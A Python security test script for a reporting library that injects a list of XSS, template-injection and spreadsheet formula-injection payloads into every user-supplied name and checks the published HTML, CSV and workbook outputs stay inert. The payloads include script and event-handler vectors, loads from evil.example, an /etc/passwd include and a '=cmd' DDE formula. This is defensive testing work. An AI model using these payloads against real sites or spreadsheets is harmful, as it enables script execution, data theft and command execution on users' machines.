"""Put hostile text into every name a person may give, run, publish, export: nothing of it may come alive.

    python tests/benchmarks/archive_injection.py [--run]

Judged by a parser, by headless Chromium where there is one, and for tables by the formula characters of
spreadsheets.  `--run` also runs a whole quarter with its notebooks (minutes); without it the published pages,
the tables and one report page are judged.
"""

from __future__ import annotations

import argparse
import csv
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path
from typing import Any

import nbformat
import openpyxl

from bsclib.archive import Store
from bsclib.errors import same
from bsclib.evidence import template
from bsclib.governance import propose_law, publish, sign
from bsclib.paths import packaged
from bsclib.quarter import open_quarter
from bsclib.reports.html import Page, to_html
from bsclib.table import Table, TableColumn

COMPANY, PERIOD = "g_company", "2025Q4"
NAME, LAW = f"{COMPANY}-{PERIOD}", f"{COMPANY}-law2025"
EVIL = "evil.example"
MARK = "document.documentElement.setAttribute('data-alive','1')"
PAYLOADS = (
    f"<script>{MARK}</script>",
    f"<SCRIPT SRC=https://{EVIL}/x.js></SCRIPT>",
    f"</title><script>{MARK}</script>",
    f"</style><script>{MARK}</script>",
    f"</table></main><script>{MARK}</script>",
    f"--><script>{MARK}</script>",
    f"]]><script>{MARK}</script>",
    f'"><script>{MARK}</script>',
    f"'><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f'<img src="https://{EVIL}/a.png">',
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"<svg><animate onbegin={MARK} attributeName=x dur=1s>",
    f"<math><mtext><script>{MARK}</script></mtext></math>",
    f"<body onload={MARK}>",
    f"<details open ontoggle={MARK}>x</details>",
    f"<iframe srcdoc='<script>parent.{MARK}</script>'></iframe>",
    f"<iframe src=https://{EVIL}></iframe>",
    f"<object data=https://{EVIL}></object>",
    f"<embed src=https://{EVIL}>",
    f"<link rel=stylesheet href=https://{EVIL}/x.css>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}'>",
    f"<base href=https://{EVIL}/>",
    f"<form action=https://{EVIL}><button autofocus onfocus={MARK}>x</button></form>",
    f"<style>@import 'https://{EVIL}/x.css';</style>",
    f"<p style='background:url(https://{EVIL}/x)'>x</p>",
    f'<a href="javascript:{MARK}">x</a>',
    f"[x](javascript:{MARK})",
    f"![x](https://{EVIL}/a.png)",
    f"<https://{EVIL}>",
    "{{ cycler.__init__.__globals__ }} {% include '/etc/passwd' %}",
    f"$\\href{{javascript:{MARK}}}{{x}}$",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    f"<noscript><p title='</noscript><img src=x onerror={MARK}>'>",
    f"<template><script>{MARK}</script></template>",
    "=1+1",
    f'=HYPERLINK("https://{EVIL}","x")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "＝1+1",
    '=cmd|"/c calc"!A1',
)
FORBIDDEN = {"script", "iframe", "object", "embed", "link", "base", "form", "frame", "frameset", "applet", "template"}
PICTURES = ("data:image/png;base64,", "data:image/svg+xml;base64,")  # inside <img> no script of an SVG runs
ADDRESSES = {"href", "src", "srcset", "action", "data", "xlink:href", "formaction", "background", "poster"}
LABELS = re.compile(r'((?:label|definition|data_source|evidence): )\{zh: "[^"]*", en: "[^"]*"\}')
FORMULAS = tuple("=+-@\t\r＝＋－＠")


class Judge(HTMLParser):
    """Everything in a page that could run or call out."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag or an attribute that has no business in a report."""
        if tag in FORBIDDEN:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            text = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            if name.startswith("on"):
                self.found.append(f"{tag} {name}")
            picture = tag == "img" and text.startswith(PICTURES)
            if name in ADDRESSES and re.match(r"[a-z][a-z0-9+.-]*:|//", text) and not picture:
                self.found.append(f"{tag} {name}={text[:40]}")
            if name == "http-equiv" and text == "refresh":
                self.found.append("meta refresh")
            if name == "style" and ("url(" in text or "expression(" in text):
                self.found.append(f"{tag} style")


def alive_in_page(page: str) -> list[str]:
    """Return what in a page could run or call out, by a parser."""
    judge = Judge()
    judge.feed(page)
    styles = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    judge.found += ["style: address" for s in styles if "@import" in s or "url(" in s]
    if "default-src 'none'" not in page:
        judge.found.append("no policy")
    return judge.found


def alive_in_csv(data: bytes) -> list[str]:
    """Return the cells that a spreadsheet would run."""
    rows = csv.reader(data.decode("utf-8-sig").splitlines())
    cells = [cell for row in rows for cell in row]
    return [c[:30] for c in cells if c.startswith(FORMULAS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c)]


def alive_in_workbook(path: Path, ours: set[str]) -> list[str]:
    """Return the cells whose text became a formula or a link."""
    book = openpyxl.load_workbook(path)
    cells = (cell for sheet in book for row in sheet.iter_rows() for cell in row)
    return [
        str(c.value)[:30]
        for c in cells
        if (c.data_type == "f" and str(c.value) in ours) or (c.hyperlink and EVIL in str(c.hyperlink.target))
    ]


def browser() -> str:
    """Return Chromium's path, "" where there is none."""
    names = ("chromium", "chromium-browser", "google-chrome", "chrome")
    return next((path for name in names if (path := shutil.which(name))), "")


def alive_in_browser(pages: list[Path]) -> list[str]:
    """Return the pages in which a payload ran or an address of a payload was asked for."""
    found = []
    with tempfile.TemporaryDirectory() as folder:
        for page in pages:
            log = Path(folder) / "net.json"
            words = ["--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", "--virtual-time-budget=2000"]
            words += [f"--user-data-dir={folder}/profile", f"--log-net-log={log}", "--disable-background-networking"]
            done = subprocess.run([browser(), *words, page.as_uri()], capture_output=True, timeout=60, check=False)
            if b"data-alive" in done.stdout.partition(b">")[0] + done.stdout.partition(b"<html")[2].partition(b">")[0]:
                found.append(f"{page.name}: a payload ran")
            if log.exists() and re.search(rf'"url":"https?://{EVIL}', log.read_text("utf-8", "replace")):
                found.append(f"{page.name}: an address was asked for")
            if b"<table" not in done.stdout:
                found.append(f"{page.name}: was not shown")
    return found


# ---- hostile law, hostile evidence


def hostile(workspace: Path, tail: str = "") -> Path:
    """Make a workspace whose every label, and every text a person fills, is a payload, `tail` behind each label."""
    shutil.copytree(packaged("params", COMPANY), workspace / "params" / COMPANY)
    supply = cycle(enumerate(PAYLOADS * 50))

    def label(match: re.Match[str]) -> str:
        number, payload = next(supply)
        zh, en = (json.dumps(f"{payload} {number}{mark}{tail}", ensure_ascii=mark != "") for mark in ("", "e"))
        return f"{match[1]}{{zh: {zh}, en: {en}}}"

    for path in sorted((workspace / "params" / COMPANY).glob("**/*.yaml")):
        if path.parent.name != "quarters":
            text = re.sub(
                r'((?:label|definition|data_source|evidence): )\{zh: "[^"]*", en: "[^"]*"\}',
                label,
                path.read_text("utf-8"),
            )
            path.write_text(text, encoding="utf-8")
    for path in (workspace / "params" / COMPANY / "quarters").glob("*.xlsx"):
        if path.stem != PERIOD:
            path.unlink()
    sample = open_quarter(COMPANY, PERIOD, workspace=packaged())
    texts = cycle(PAYLOADS)
    rows = {
        key: replace(fact, note=next(texts), evidence_link=next(texts), filled_by=next(texts)[:60])
        for key, fact in sample.facts.rows.items()
    }
    law = open_law(workspace)
    source = workspace / "params" / COMPANY / "quarters" / f"{PERIOD}.xlsx"
    template(law, PERIOD, source, values=replace(sample.facts, rows=rows))
    return workspace


def open_law(workspace: Path) -> Any:
    """Return the law of a workspace."""
    from bsclib.law import load_rulebook

    return load_rulebook(workspace / "params" / COMPANY, as_of="2025-12-31")


def publications(workspace: Path, outputs: Path) -> list[Path]:
    """Seal, sign and publish; return every file published."""
    store, view = Store(outputs), open_quarter(COMPANY, PERIOD, workspace=workspace)
    with store.stage(NAME) as content:
        for path in view.rulebook.files:
            target = content / "params" / COMPANY / path.relative_to(view.rulebook.folder)
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copyfile(path, target)
        (content / "inputs").mkdir()
        shutil.copyfile(view.facts.source, content / "inputs" / view.facts.source.name)
        text = view.scores.to_csv()
        (content / "scores.csv").write_text(text, encoding="utf-8", newline="")
        store.commit(NAME, content, expected_head=0, message=PAYLOADS[0], user=PAYLOADS[9])
    propose_law(store, view.rulebook, [view.facts], 2025, PAYLOADS[9], PAYLOADS[36])
    for name in (LAW, NAME):
        for role, who in zip(("preparer", "reviewer", "approver"), PAYLOADS, strict=False):
            sign(store, name, role, who[:70])
    publish(store, COMPANY, PERIOD, "public", withhold=True)
    publish(store, COMPANY, PERIOD, "unit", unit="sales")
    (outputs / "sealed.csv").write_bytes((store.open(NAME) / "scores.csv").read_bytes())
    return [p for part in ("public", "units") for p in (outputs / part).rglob("*") if p.is_file()] + [
        outputs / "sealed.csv"
    ]


def report_page(path: Path) -> Path:
    """Write a report page with every payload as title, prose, table, text output, alternative text."""
    cells: list[Any] = [nbformat.v4.new_markdown_cell("\n\n".join(PAYLOADS))]
    columns = (TableColumn("a", str), TableColumn(PAYLOADS[0], str, "w"))
    table = Table.of(columns, PAYLOADS, "en", same(PAYLOADS[6]))
    data, metadata = table._repr_mimebundle_()
    outputs = [
        nbformat.v4.new_output("display_data", data, metadata=metadata),
        nbformat.v4.new_output("stream", text="\n".join(PAYLOADS)),
        nbformat.v4.new_output("display_data", {"text/html": "".join(PAYLOADS)}),
        nbformat.v4.new_output("display_data", {"text/markdown": "\n\n".join(PAYLOADS)}),
        nbformat.v4.new_output("display_data", {"image/svg+xml": f"<svg onload={MARK}>{PAYLOADS[0]}</svg>"}),
        nbformat.v4.new_output("display_data", {"application/javascript": MARK}),
        nbformat.v4.new_output("display_data", {"image/png": 'x" onerror="' + MARK, "text/plain": PAYLOADS[7]}),
    ]
    cells.append(nbformat.v4.new_code_cell("1", outputs=outputs))
    page = Page(
        title=PAYLOADS[2],
        strip=PAYLOADS,
        warnings=PAYLOADS[:5],
        nav=tuple((p, p) for p in PAYLOADS),
        watermark=PAYLOADS[3],
        footer=PAYLOADS[1],
    )
    path.write_text(to_html(nbformat.v4.new_notebook(cells=cells), page), encoding="utf-8")
    return path


def judged(files: list[Path], formulas: set[str]) -> Iterator[tuple[Path, list[str]]]:
    """Yield each file with what is alive in it."""
    for path in files:
        if path.suffix == ".html":
            yield path, alive_in_page(path.read_text("utf-8"))
        elif path.suffix == ".csv":
            yield path, alive_in_csv(path.read_bytes())
        elif path.suffix == ".xlsx":
            yield path, alive_in_workbook(path, formulas)


def unescaped() -> list[str]:
    """Return the payloads that the judges find alive where nothing escapes them: they would see a failure."""
    pages = [p for p in PAYLOADS if alive_in_page(f"<html>{p}</html>") != ["no policy"]]
    return [*pages, *(p for p in PAYLOADS if p.startswith(FORMULAS))]


def whole_run(workspace: Path, outputs: Path) -> list[Path]:
    """Run the hostile quarter with all its notebooks; return every page and table of the revision."""
    environment = {**os.environ, "BSC_USER": PAYLOADS[9]}
    words = ["-m", "bsclib", "run", PERIOD, "--params", str(workspace / "params"), "--outputs", str(outputs)]
    done = subprocess.run([sys.executable, *words], env=environment, capture_output=True, text=True, check=False)
    print(f"bsc run: exit {done.returncode} {done.stderr[-300:] if done.returncode else ''}")
    return [p for p in (outputs / "archive").rglob("*") if p.suffix in (".html", ".csv", ".xlsx")]


def main() -> int:
    """Run the battery and print what was counted."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--run", action="store_true", help="run a whole quarter, too")
    asked = parser.parse_args()
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        seen = [
            p
            for p in PAYLOADS
            if alive_in_page(f"<html>{p}</html>") != ["no policy"] or alive_in_csv(f'"{p}"'.encode())
        ]
        print(f"payloads {len(PAYLOADS)}  alive when unescaped, by the same judges {len(seen)}")
        workspace = hostile(folder / "workspace")
        files = [*publications(workspace, folder / "outputs"), report_page(folder / "report.html")]
        files += sorted((workspace / "params").rglob("*.xlsx"))
        if asked.run:
            environment = {**os.environ, "BSC_USER": PAYLOADS[9]}
            words = [
                "-m",
                "bsclib",
                "run",
                PERIOD,
                "--params",
                str(workspace / "params"),
                "--outputs",
                str(folder / "run"),
            ]
            done = subprocess.run(
                [sys.executable, *words], env=environment, capture_output=True, text=True, check=False
            )
            print(f"bsc run: exit {done.returncode} {done.stderr[-300:] if done.returncode else ''}")
            files += [p for p in (folder / "run" / "archive").rglob("*") if p.suffix in (".html", ".csv", ".xlsx")]
        alive = [(path, found) for path, found in judged(files, set(PAYLOADS)) if found]
        print(f"files {len(files)}  alive {len(alive)}")
        for path, found in alive[:10]:
            print(f"  {path.relative_to(folder)}: {found[:4]}")
        pages = [p for p in files if p.suffix == ".html"]
        if not browser():
            print("no Chromium here: the pages were judged by the parser alone")
            return len(alive)
        ran = alive_in_browser(pages)
        print("\n  ".join([f"pages in Chromium {len(pages)}  alive {len(ran)}", *ran[:5]]))
    return len(alive) + len(ran)


if __name__ == "__main__":
    raise SystemExit(min(main(), 1))
